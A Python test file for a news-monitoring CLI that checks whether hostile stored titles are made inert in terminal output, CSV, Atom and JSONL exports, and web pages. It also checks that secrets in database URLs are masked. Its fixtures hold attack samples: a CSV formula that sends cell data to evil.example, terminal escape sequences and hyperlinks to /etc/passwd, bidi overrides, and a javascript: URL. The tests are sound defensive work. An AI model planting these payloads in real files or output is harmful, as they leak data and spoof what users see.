"""What the CLI shows and writes of hostile stored text, and of secrets: inert markup, no escape sequences,
inert CSV formulas, atomic exports that never follow a link or overwrite unasked, and no password anywhere.

The commands run as child processes on a real SQLite database holding hits whose titles were written by an
attacker; colour is forced so that Rich would emit links and styles if it parsed the titles as markup.
"""

from __future__ import annotations

import csv
import io
import logging
import os
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from config.settings import mask_secrets, mask_url
from rasid.safe_output import SafeLogFilter
from storage.db import make_engine
from storage.export import to_csv
from storage.repository import Repository
from storage.safe_text import inert_cell, strip_controls
from tests.rasid.web_fixtures import Browser
from tests.storage.conftest import hit_verdict, outcome

MARKUP_TITLE = "روسيا [/bold] تعاون"  # "Russia [/bold] cooperation": once made `rasid hits` exit 1
LINK_TITLE = "[link=file:///etc/passwd]اضغط هنا[/link] روسيا"  # "click here ... Russia"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"روسيا")'
ESCAPE_TITLE = "روسيا \x1b]8;;file:///etc/passwd\x1b\\رابط\x1b]8;;\x1b\\ \x1b[2J\x1b[31mتعاون\x07"
ATOM = "{http://www.w3.org/2005/Atom}"
ROOT = Path(__file__).resolve().parents[2]
SECRETS = ("DbPassw0rd", "QueryPassw0rd", "RedisPassw0rd", "RedisQueryPassw0rd", "SmtpPassw0rd")


def run(
    *args: str, env: dict[str, str] | None = None, stdin: str | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    """``rasid ARGS`` as a user would run it, with colour forced and a wide terminal."""
    environment = {
        **os.environ,
        "COLUMNS": "400",
        "FORCE_COLOR": "1",
        "TERM": "xterm-256color",
        **(env or {}),
    }
    environment.pop("RASID_CONFIG", None)
    # this tree's code, also when the child runs in another folder (``cwd``)
    environment["PYTHONPATH"] = os.pathsep.join(filter(None, (str(ROOT), os.environ.get("PYTHONPATH"))))
    return subprocess.run(
        [sys.executable, "-m", "rasid.cli", *args],
        capture_output=True, text=True, timeout=120, env=environment, input=stdin, cwd=cwd,
    )  # fmt: skip


@pytest.fixture
def hostile_db(sqlite_url: str) -> str:
    """Stored hits whose titles carry Rich markup, a terminal hyperlink, escape sequences and a formula."""
    repo = Repository(make_engine(sqlite_url))
    repo.prepare()
    run_id = repo.start_run(["wam"])
    titles = (MARKUP_TITLE, LINK_TITLE, FORMULA_TITLE, ESCAPE_TITLE)
    # Texts with nothing in common, so each hit is its own story.
    texts = [" ".join(f"خبر{n}كلمة{w}" for w in range(60)) for n in range(len(titles))]
    repo.store(
        [outcome(f"https://wam.ae/ar/{i}", text, source="wam", title=title, verdict=hit_verdict(("مصر",)))
         for i, (title, text) in enumerate(zip(titles, texts, strict=True))],
        run_id,
    )  # fmt: skip
    return sqlite_url


# ------------------------------------------------------------------------------------ the terminal


@pytest.mark.parametrize("command", ["hits", "stories"])
def test_markup_in_stored_titles_prints_literally_and_makes_no_link(hostile_db: str, command: str) -> None:
    done = run(command, "--db", hostile_db)
    assert done.returncode == 0, done.stderr[-2000:]
    assert MARKUP_TITLE in done.stdout
    assert "[link=file:///etc/passwd]" in done.stdout
    assert "\x1b]8;" not in done.stdout  # no OSC 8 hyperlink, neither Rich's nor the stored one


def test_escape_sequences_in_a_stored_title_never_reach_the_terminal(hostile_db: str) -> None:
    done = run("hits", "--db", hostile_db)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "\x1b[2J" not in done.stdout and "\x1b[31m" not in done.stdout and "\x07" not in done.stdout
    assert "file:///etc/passwd\x1b" not in done.stdout
    csv_out = run("hits", "--db", hostile_db, "--format", "csv").stdout
    assert "\x1b" not in csv_out and "\x07" not in csv_out


def test_explain_prints_a_markup_title_literally() -> None:
    done = run("explain", "-", stdin=f"{MARKUP_TITLE}\nوقعت روسيا والإمارات اتفاقية تعاون في مجال الطاقة.\n")
    assert done.returncode == 0, done.stderr[-2000:]
    assert f"title: {MARKUP_TITLE}" in done.stdout


def test_strip_controls_keeps_arabic_text_and_drops_sequences() -> None:
    assert strip_controls(ESCAPE_TITLE) == "روسيا رابط تعاون"
    assert strip_controls("سطر\nثان\tو\x00\x7f\x9b2J") == "سطر\nثان\tو"


# ------------------------------------------------------------------------------------ CSV and exports


def test_a_formula_title_is_an_inert_cell_in_the_exported_csv(hostile_db: str, tmp_path: Path) -> None:
    target = tmp_path / "hits.csv"
    done = run("export", str(target), "--db", hostile_db)
    assert done.returncode == 0, done.stderr[-2000:]
    titles = {row["title"] for row in csv.DictReader(io.StringIO(target.read_text(encoding="utf-8")))}
    assert "'" + FORMULA_TITLE in titles
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_neutralised_and_numbers_are_left_alone(prefix: str) -> None:
    assert inert_cell(f"{prefix}1+1") == f"'{prefix}1+1"
    assert inert_cell(-2.5) == -2.5
    assert inert_cell("روسيا - الصين") == "روسيا - الصين"


def test_csv_rendering_neutralises_what_storage_hands_out(hostile_db: str) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(Repository(make_engine(hostile_db)).hits(), "hits"))))
    assert {"'" + FORMULA_TITLE, MARKUP_TITLE} <= {row["title"] for row in rows}


def test_export_refuses_to_overwrite_without_force(hostile_db: str, tmp_path: Path) -> None:
    target = tmp_path / "hits.csv"
    target.write_text("keep me\n", encoding="utf-8")
    done = run("export", str(target), "--db", hostile_db)
    assert done.returncode == 2
    assert done.stderr.strip() == f"error: {target}: already exists; pass --force to overwrite it"
    assert target.read_text(encoding="utf-8") == "keep me\n"
    forced = run("export", str(target), "--force", "--db", hostile_db)
    assert forced.returncode == 0, forced.stderr[-2000:]
    assert target.read_text(encoding="utf-8").startswith("article_id,")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary left


@pytest.mark.parametrize("force", [False, True])
def test_export_never_writes_through_a_symlink(hostile_db: str, tmp_path: Path, force: bool) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    done = run("export", str(link), *(["--force"] if force else []), "--db", hostile_db)
    assert done.returncode == 2
    assert done.stderr.strip() == f"error: {link}: is a symbolic link; refusing to write through it"
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert link.is_symlink()


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        (
            "/proc/out.csv",
            "cannot write it: No such file or directory",
        ),  # /proc takes no files, even from root
        ("/dev/full", "exists and is not a regular file"),  # a device is never replaced by an export
        ("{tmp}", "exists and is not a regular file"),  # a folder
    ],
)
def test_export_to_an_unwritable_place_is_one_line_and_exit_2(
    hostile_db: str, tmp_path: Path, name: str, reason: str
) -> None:
    target = name.format(tmp=tmp_path)
    done = run("export", target, "--format", "csv", "--force", "--db", hostile_db)
    assert (done.returncode, done.stderr.strip()) == (2, f"error: {target}: {reason}")


def _limited_file_size() -> None:
    """In the child: a file may grow to 40 kB (SQLite's WAL index is 32), a bigger write fails with EFBIG."""
    import resource
    import signal

    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (40_000, 40_000))


def test_an_export_that_fails_midway_is_one_line_and_leaves_nothing(hostile_db: str, tmp_path: Path) -> None:
    big = "روسيا " * 5000  # "Russia": one title of 60 kB, more than the child may write
    repo = Repository(make_engine(hostile_db))
    repo.store([outcome("https://wam.ae/ar/big", big, source="wam", title=big)], repo.start_run(["wam"]))
    out = tmp_path / "out"
    out.mkdir()
    done = subprocess.run(
        [sys.executable, "-m", "rasid.cli", "export", str(out / "hits.csv"), "--db", hostile_db],
        capture_output=True, text=True, timeout=120, preexec_fn=_limited_file_size,
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
    )  # fmt: skip
    assert (done.returncode, done.stderr.strip()) == (
        2,
        f"error: {out / 'hits.csv'}: cannot write it: File too large",
    )
    assert list(out.iterdir()) == []


def test_the_wrote_line_shows_a_file_name_without_its_escape_sequences(
    hostile_db: str, tmp_path: Path
) -> None:
    name = "b\x1b]0;PWN\x07\x1b[2J.csv"  # would retitle the terminal window and clear the screen
    done = run("export", name, "--db", hostile_db, cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert (tmp_path / name).is_file()
    assert "\x1b" not in done.stdout and "\x07" not in done.stdout
    assert done.stdout == "wrote 4 hits to b.csv (csv)\n"


# ------------------------------------------------------------------------------------ feedback export


@pytest.fixture
def judged_db(hostile_db: str) -> str:
    """The hostile hits, one of them judged right by an analyst."""
    repo = Repository(make_engine(hostile_db))
    repo.add_judgement("ليلى", "right", article_id=repo.hits()[0].article_id)
    return hostile_db


def test_feedback_export_refuses_to_overwrite_without_force(judged_db: str, tmp_path: Path) -> None:
    target = tmp_path / "judged.jsonl"
    target.write_text("keep me\n", encoding="utf-8")
    done = run("feedback", "export", str(target), "--db", judged_db)
    assert (done.returncode, done.stderr.strip()) == (
        2,
        f"error: {target}: already exists; pass --force to overwrite it",
    )
    assert target.read_text(encoding="utf-8") == "keep me\n"
    forced = run("feedback", "export", str(target), "--force", "--db", judged_db)
    assert forced.returncode == 0, forced.stderr[-2000:]
    assert '"label": true' in target.read_text(encoding="utf-8")


def test_feedback_export_never_writes_through_a_symlink(judged_db: str, tmp_path: Path) -> None:
    victim, link = tmp_path / "victim.txt", tmp_path / "judged.jsonl"
    victim.write_text("precious\n", encoding="utf-8")
    link.symlink_to(victim)
    done = run("feedback", "export", str(link), "--force", "--db", judged_db)
    assert (done.returncode, done.stderr.strip()) == (
        2,
        f"error: {link}: is a symbolic link; refusing to write through it",
    )
    assert victim.read_text(encoding="utf-8") == "precious\n"


def test_feedback_export_makes_no_missing_folder(judged_db: str, tmp_path: Path) -> None:
    target = tmp_path / "typo" / "judged.jsonl"
    done = run("feedback", "export", str(target), "--db", judged_db)
    assert (done.returncode, done.stderr.strip()) == (
        2,
        f"error: {target}: no folder {target.parent} to write it in",
    )
    assert not target.parent.exists()


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("/proc/judged.jsonl", "cannot write it: No such file or directory"),
        ("/dev/full", "exists and is not a regular file"),
        ("{tmp}", "exists and is not a regular file"),
    ],
)
def test_feedback_export_to_an_unwritable_place_is_one_line_and_exit_2(
    judged_db: str, tmp_path: Path, name: str, reason: str
) -> None:
    target = name.format(tmp=tmp_path)
    done = run("feedback", "export", target, "--force", "--db", judged_db)
    assert (done.returncode, done.stderr.strip()) == (2, f"error: {target}: {reason}")


def test_feedback_export_dash_writes_to_standard_output(judged_db: str, tmp_path: Path) -> None:
    here = tmp_path / "here"
    here.mkdir()
    done = run("feedback", "export", "-", "--db", judged_db, cwd=here)
    assert done.returncode == 0, done.stderr[-2000:]
    assert '"label": true' in done.stdout
    assert list(here.iterdir()) == []  # no file named "-"


# ------------------------------------------------------------------------------------ bidi overrides and links

RLO_TITLE = "روسيا \u202eتعاون\u202c \u2066مصر\u2069"  # a right-to-left override and an isolate in a title
HOSTILE_URL = "javascript:alert(1)"
BIDI = ("\u202e", "\u202c", "\u2066", "\u2069")


@pytest.fixture
def bidi_db(hostile_db: str) -> str:
    """The hostile hits plus one whose title carries bidi controls and whose stored URL is ``javascript:``."""
    repo = Repository(make_engine(hostile_db))
    text = " ".join(f"خبر9كلمة{w}" for w in range(60))  # "news9word": its own story
    repo.store(
        [outcome("https://wam.ae/ar/rlo", text, source="wam", title=RLO_TITLE)], repo.start_run(["wam"])
    )
    with sqlite3.connect(hostile_db.removeprefix("sqlite:///")) as db:
        db.execute(
            "UPDATE articles SET url = ?, canonical_url = ? WHERE url = ?",
            (HOSTILE_URL, HOSTILE_URL, "https://wam.ae/ar/rlo"),
        )
    return hostile_db


@pytest.mark.parametrize(
    "args",
    [
        ("hits",),
        ("stories",),
        ("hits", "--format", "csv"),
        ("hits", "--format", "jsonl"),
        ("stories", "--format", "jsonl"),
    ],
)
def test_bidi_controls_in_a_stored_title_never_reach_the_terminal(
    bidi_db: str, args: tuple[str, ...]
) -> None:
    done = run(*args, "--db", bidi_db)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "روسيا تعاون مصر" in done.stdout
    assert not [c for c in BIDI if c in done.stdout]


@pytest.mark.parametrize("suffix", ["csv", "atom", "jsonl"])
def test_exported_files_hold_no_bidi_controls(bidi_db: str, tmp_path: Path, suffix: str) -> None:
    target = tmp_path / f"hits.{suffix}"
    done = run("export", str(target), "--db", bidi_db)
    assert done.returncode == 0, done.stderr[-2000:]
    written = target.read_text(encoding="utf-8")
    assert "روسيا تعاون مصر" in written
    assert not [c for c in BIDI if c in written]


@pytest.mark.parametrize("what", ["hits", "stories"])
def test_the_atom_export_never_links_a_javascript_url(bidi_db: str, tmp_path: Path, what: str) -> None:
    target = tmp_path / "feed.atom"
    done = run("export", str(target), "--what", what, "--db", bidi_db)
    assert done.returncode == 0, done.stderr[-2000:]
    feed = target.read_text(encoding="utf-8")
    assert "javascript:" not in feed
    entry = next(
        e for e in ET.fromstring(feed).iter(f"{ATOM}entry") if e.findtext(f"{ATOM}title") == "روسيا تعاون مصر"
    )
    assert entry.findall(f"{ATOM}link") == []  # the hostile hit keeps its entry, without a link
    assert len(ET.fromstring(feed).findall(f"{ATOM}entry/{ATOM}link")) == 4  # the other hits keep theirs


def test_web_pages_show_a_title_without_its_bidi_controls_and_no_javascript_link(
    bidi_db: str, serve: Callable[..., Browser]
) -> None:
    site = serve(bidi_db)
    story_id = next(s.story_id for s in site.repository.stories() if "\u202e" in s.title)
    for path in ("/", f"/stories/{story_id}"):
        page = site.get(path)
        assert page.status_code == 200, path
        assert "روسيا تعاون مصر" in page.text, path
        assert not [c for c in BIDI if c in page.text], path
        assert "javascript:" not in page.text, path


def test_the_wrote_line_drops_bidi_controls_from_the_file_name(hostile_db: str, tmp_path: Path) -> None:
    done = run("export", "\u202ecsv.exe.csv", "--db", hostile_db, cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout == "wrote 4 hits to csv.exe.csv (csv)\n"


# ------------------------------------------------------------------------------------ secrets

SECRET_ENV = {
    "RASID_DATABASE_URL": "postgresql+psycopg://rasid:DbPassw0rd@127.0.0.1:9/rasid?password=QueryPassw0rd",
    "RASID_CRAWL__REDIS_URL": "redis://:RedisPassw0rd@127.0.0.1:9/0?password=RedisQueryPassw0rd",
    "RASID_DIGEST__SMTP_PASSWORD": "SmtpPassw0rd",
}


def _leaks(done: subprocess.CompletedProcess[str]) -> list[str]:
    return [secret for secret in SECRETS if secret in done.stdout or secret in done.stderr]


def test_rasid_config_masks_every_secret() -> None:
    done = run("config", env=SECRET_ENV)
    assert done.returncode == 0, done.stderr[-2000:]
    assert _leaks(done) == []
    assert "redis://:***@127.0.0.1:9/0?password=***" in done.stdout
    assert "postgresql+psycopg://rasid:***@127.0.0.1:9/rasid?password=***" in done.stdout


def _sources(tmp_path: Path) -> Path:
    path = tmp_path / "sources.yaml"
    path.write_text(
        "sources:\n  - {name: a, url: 'http://127.0.0.1:9/', feeds: ['http://127.0.0.1:9/f.xml']}\n"
    )
    return path


def test_a_crawl_with_an_unusable_redis_url_is_one_line_without_its_password(tmp_path: Path) -> None:
    env = {**SECRET_ENV, "RASID_DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"}
    done = run("-vv", "crawl", "--sources", str(_sources(tmp_path)), env=env)
    assert done.returncode == 2
    assert _leaks(done) == []
    assert "error: redis://:***@127.0.0.1:9/0?password=***: cannot use Redis:" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_crawl_with_an_unusable_database_url_is_one_line_without_its_password(tmp_path: Path) -> None:
    env = {key: value for key, value in SECRET_ENV.items() if "REDIS" not in key}
    done = run("-vv", "crawl", "--sources", str(_sources(tmp_path)), env=env)
    assert done.returncode == 2
    assert _leaks(done) == []
    assert (
        "error: postgresql+psycopg://rasid:***@127.0.0.1:9/rasid?password=***: cannot connect: connection refused"
        in done.stderr
    )


def test_mask_url_hides_userinfo_and_query_passwords_and_unparsable_urls() -> None:
    assert mask_url("postgresql://u:p1@h/d?sslmode=require&password=p2") == (
        "postgresql://u:***@h/d?sslmode=require&password=***"  # masked as written, never re-rendered
    )
    assert mask_url("not a url password=p3") == "***"
    assert (
        mask_secrets("connecting to redis://user:p4@h:6379/0 failed")
        == "connecting to redis://user:***@h:6379/0 failed"
    )


def test_a_raw_at_sign_in_a_password_is_masked_up_to_the_last_at_sign() -> None:
    # SQLAlchemy reads u:pa@SECRETX@h as password "pa" and host "SECRETX@h"; the mask must not follow it.
    assert (
        mask_url("postgresql+psycopg://u:pa@SECRETX@127.0.0.1:1/x")
        == "postgresql+psycopg://u:***@127.0.0.1:1/x"
    )
    assert mask_url("redis://:pa@SECRETX@h/0") == "redis://:***@h/0"
    assert mask_url("postgresql://pa@SECRETX@h/d") == "postgresql://***@h/d"
    assert (
        mask_secrets("cannot reach 'redis://u:a/b@c@h:6379/0' now")
        == "cannot reach 'redis://u:***@h:6379/0' now"
    )
    assert mask_url("sqlite:////srv/a@b/rasid.db") == "sqlite:////srv/a@b/rasid.db"  # a path, no password
    assert mask_url("postgresql://rasid@h/d") == "postgresql://rasid@h/d"  # a user name alone is no secret


def test_the_storage_error_of_a_url_with_a_raw_at_sign_hides_the_whole_password() -> None:
    from storage.errors import masked

    engine_url = make_url_of("postgresql+psycopg://u:pa@SECRETX@127.0.0.1:1/x")
    assert "SECRETX" not in masked(engine_url)


def make_url_of(url: str) -> str:
    """The URL as an engine renders it (``translate`` and ``schema`` mask this rendering)."""
    from sqlalchemy.engine import make_url

    return make_url(url).render_as_string(hide_password=False)


@pytest.mark.parametrize(
    "args, env",
    [
        (("hits", "--db", "postgresql+psycopg://u:pa@SECRETX@127.0.0.1:1/x"), {}),
        (("config",), {"RASID_DATABASE_URL": "postgresql+psycopg://u:pa@SECRETX@127.0.0.1:1/x"}),
        (("config",), {"RASID_CRAWL__REDIS_URL": "redis://:pa@SECRETX@127.0.0.1:9/0"}),
        (("status",), {"RASID_CRAWL__REDIS_URL": "redis://:pa@SECRETX@127.0.0.1:notaport/0"}),
        (("hits", "--db", "postgresql+psycopg://u:SECRETX@127.0.0.1:notaport/x"), {}),
        (("hits", "--db", "postgresql+psycopg://u:pa@SECRETX/y@127.0.0.1:1/x"), {}),
    ],
)
def test_a_url_with_a_raw_at_sign_or_a_bad_port_never_shows_its_password(
    args: tuple[str, ...], env: dict[str, str], tmp_path: Path
) -> None:
    done = run(*args, env={"HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path), **env})
    assert "SECRETX" not in done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    if args[0] != "config" or "DATABASE" in "".join(env):
        assert done.returncode == 2, done.stderr
        assert len(done.stderr.strip().splitlines()) == 1, done.stderr


def test_a_database_path_with_a_space_is_still_named_in_the_error(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'a folder' / 'none.db'}"
    done = run("hits", "--db", url, env={"HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path)})
    assert done.returncode == 2 and done.stderr.startswith(f"error: {url}: no database there"), done.stderr


def test_every_log_line_is_masked_and_free_of_control_characters() -> None:
    record = logging.LogRecord("x", logging.WARNING, __file__, 1, "cannot reach %s: %s", None, None)
    record.args = ("redis://:p5@h/0", "bad\x1b[2J title")
    assert SafeLogFilter().filter(record)
    assert record.getMessage() == "cannot reach redis://:***@h/0: bad title"
